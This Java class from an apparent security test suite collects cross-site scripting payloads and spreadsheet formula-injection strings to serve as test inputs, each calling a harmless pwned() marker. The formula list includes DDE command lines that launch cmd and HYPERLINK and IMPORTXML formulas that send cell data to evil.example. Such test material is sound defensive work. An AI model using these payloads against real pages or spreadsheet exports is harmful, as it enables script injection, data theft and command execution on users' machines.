package io.afterhours.security.suite;

import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;

/**
 * Texts that become a program where somebody takes them for HTML, for the address of a link, for a template, or for the
 * cell of a spreadsheet. Each of them calls {@code pwned()} when it runs.
 */
public final class HostileTexts {

    private static final List<String> ELEMENTS = List.of(
            "<script>pwned()</script>",
            "<ScRiPt>pwned()</sCrIpT>",
            "<script >pwned()</script >",
            "<script\n>pwned()</script\n>",
            "<script/x>pwned()</script>",
            "<scr<script>ipt>pwned()</scr</script>ipt>",
            "<script>pwned()<!--",
            "<script src=data:text/javascript,pwned()></script>",
            "<script type=module>pwned()</script>",
            "<svg><script>pwned()</script></svg>",
            "<svg><script href=data:,pwned() /></svg>",
            "<math><script>pwned()</script></math>",
            "<template><script>pwned()</script></template>",
            "<iframe src=javascript:parent.pwned()></iframe>",
            "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
            "<iframe srcdoc=&lt;script&gt;parent.pwned()&lt;/script&gt;></iframe>",
            "<object data=javascript:pwned()></object>",
            "<embed src=javascript:pwned()>",
            "<form action=javascript:pwned()><button autofocus>x</button></form>",
            "<button formaction=javascript:pwned() form=x>x</button>",
            "<a href=javascript:pwned()>x</a>",
            "<a href=\"java\tscript:pwned()\">x</a>",
            "<a href=&#106;avascript:pwned()>x</a>",
            "<a href=' javascript:pwned()'>x</a>",
            "<a href=data:text/html,<script>opener.pwned()</script>>x</a>",
            "<svg><a href=javascript:pwned()><text y=9>x</text></a></svg>",
            "<svg><use href='data:image/svg+xml,<svg id=x onload=pwned()></svg>#x'></svg>",
            "<base href=javascript:pwned()//>",
            "<meta http-equiv=refresh content='0;url=javascript:pwned()'>",
            "<link rel=stylesheet href=data:text/css,*{color:red}>",
            "<style>@import 'javascript:pwned()';</style>",
            "<style>*{background:url(javascript:pwned())}</style>",
            "<div style='background:url(javascript:pwned())'>x</div>",
            "<div style='width:expression(pwned())'>x</div>",
            "<table background=javascript:pwned()>",
            "<isindex action=javascript:pwned() type=submit>",
            "<noscript><p title='</noscript><img src=x onerror=pwned()>'>",
            "<title><img title='</title><img src=x onerror=pwned()>'></title>",
            "<textarea></textarea><img src=x onerror=pwned()>",
            "<xmp></xmp><img src=x onerror=pwned()>",
            "<!--><img src=x onerror=pwned()>-->",
            "<![CDATA[><img src=x onerror=pwned()>]]>",
            "<?xml version=\"1.0\"?><html xmlns='http://www.w3.org/1999/xhtml'><script>pwned()</script></html>",
            "<math><mtext><table><mglyph><style><img src=x onerror=pwned()>",
            "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>",
            "<svg></p><style><a id='</style><img src=x onerror=pwned()>'>",
            "<vaadin-button theme=primary onclick=pwned()>x</vaadin-button>",
            "<vaadin-icon src=javascript:pwned()></vaadin-icon>");

    /** An element and what happens to it without anybody touching it. */
    private static final List<String> EVENTS = List.of(
            "img src=x onerror",
            "img src=data:image/gif;base64,R0lGODlhAQABAAAAACw= onload",
            "image src=x onerror",
            "svg onload",
            "svg/onload",
            "svg><animate attributeName=x dur=1s onbegin",
            "svg><set attributeName=x onbegin",
            "body onload",
            "body onpageshow",
            "body onresize",
            "body onhashchange",
            "iframe onload",
            "input autofocus onfocus",
            "select autofocus onfocus",
            "textarea autofocus onfocus",
            "button autofocus onfocus",
            "details open ontoggle",
            "video src=x onerror",
            "video><source src=x onerror",
            "audio src=x onerror",
            "object data=x onerror",
            "embed src=x onerror",
            "link rel=stylesheet href=x onerror",
            "script src=x onerror",
            "marquee onstart",
            "div tabindex=1 autofocus onfocus",
            "div onmouseover",
            "div onpointerenter",
            "div style=animation-name:x onanimationstart",
            "p contenteditable onfocus",
            "dialog open onclose",
            "x onclick",
            "x/onmouseenter",
            "input type=image src=x onerror");

    /** How the call is written into the attribute. */
    private static final List<String> CALLS = List.of("=pwned()>", "=\"pwned()\" x=\"", "='pwned()' x='");

    /** What may stand before, to leave whatever the text was put into. */
    private static final List<String> WAYS_OUT = List.of(
            "\">",
            "'>",
            "</title>",
            "</textarea>",
            "</script>",
            "</style>",
            "-->",
            "]]>",
            "\\\">",
            "%22%3E",
            "&quot;>",
            "\">'>`>",
            "</span></div></body>");

    private static final List<String> IN_SCRIPTS = List.of(
            "';pwned();'",
            "\";pwned();\"",
            "`;pwned();`",
            "\\';pwned();//",
            "\\\";pwned();//",
            "${pwned()}",
            "#{pwned()}",
            "{{pwned()}}",
            "{{constructor.constructor('pwned()')()}}",
            "<%= pwned() %>",
            "</script><script>pwned()</script>",
            "\u2028pwned()//",
            "'-pwned()-'",
            "\"-pwned()-\"",
            "(pwned)()",
            "__proto__",
            "constructor",
            "[[pwned()]]",
            "javascript:pwned()",
            "JaVaScRiPt:pwned()",
            "java\nscript:pwned()",
            "\u0001javascript:pwned()",
            "javascript://%0apwned()",
            "data:text/html,<script>pwned()</script>",
            "vbscript:pwned()",
            "\" onfocus=\"pwned()\" autofocus=\"",
            "' onfocus='pwned()' autofocus='",
            "x onerror=pwned()",
            "\" style=\"animation-name:x\" onanimationstart=\"pwned()",
            "&lt;script&gt;pwned()&lt;/script&gt;",
            "&#60;script&#62;pwned()&#60;/script&#62;",
            "\\u003cscript\\u003epwned()\\u003c/script\\u003e",
            "\\x3cscript\\x3epwned()\\x3c/script\\x3e",
            "%3Cscript%3Epwned()%3C/script%3E",
            "+ADw-script+AD4-pwned()+ADw-/script+AD4-",
            "\uFF1Cscript\uFF1Epwned()\uFF1C/script\uFF1E",
            "*[x](javascript:pwned())",
            "![x](x\"onerror=\"pwned())");

    private static final List<String> FORMULAS = List.of(
            "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")",
            "=cmd|'/C calc'!A0",
            "+cmd|'/C calc'!A0",
            "-2+3+cmd|'/C calc'!A0",
            "@SUM(1+1)*cmd|'/C calc'!A0",
            "=IMPORTXML(\"https://evil.example\",\"//a\")",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            " =1+1",
            "\"=1+1",
            "x;=1+1",
            "x;\"=1+1\"",
            "x\t=1+1",
            "x\n=1+1",
            "x\r\n@SUM(1)",
            "\uFF1D1+1",
            "\uFF0B1",
            "\uFF0D1",
            "\uFF20SUM(1)",
            "%0A=1+1",
            "=1+1\";=2+2");

    private HostileTexts() {}

    /** What would run in a page. */
    public static List<String> scripts() {
        List<String> all = new ArrayList<>(ELEMENTS);
        EVENTS.forEach(event -> CALLS.forEach(call -> all.add("<" + event + call)));
        WAYS_OUT.forEach(out -> {
            all.add(out + "<img src=x onerror=pwned()>");
            all.add(out + "<script>pwned()</script>");
        });
        all.addAll(IN_SCRIPTS);
        return all.stream().distinct().toList();
    }

    /** What a spreadsheet would calculate. */
    public static List<String> formulas() {
        return FORMULAS;
    }

    public static List<String> all() {
        return Stream.concat(scripts().stream(), formulas().stream()).toList();
    }
}
